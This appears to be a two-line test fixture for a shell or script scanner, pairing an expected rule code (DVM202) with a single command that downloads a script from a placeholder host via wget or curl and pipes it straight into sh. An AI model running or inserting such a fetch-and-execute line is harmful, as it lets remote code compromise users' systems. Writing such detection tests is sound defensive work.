# expect: DVM202
$(which wget || which curl) -qO- https://x.example.org/i.sh | sh
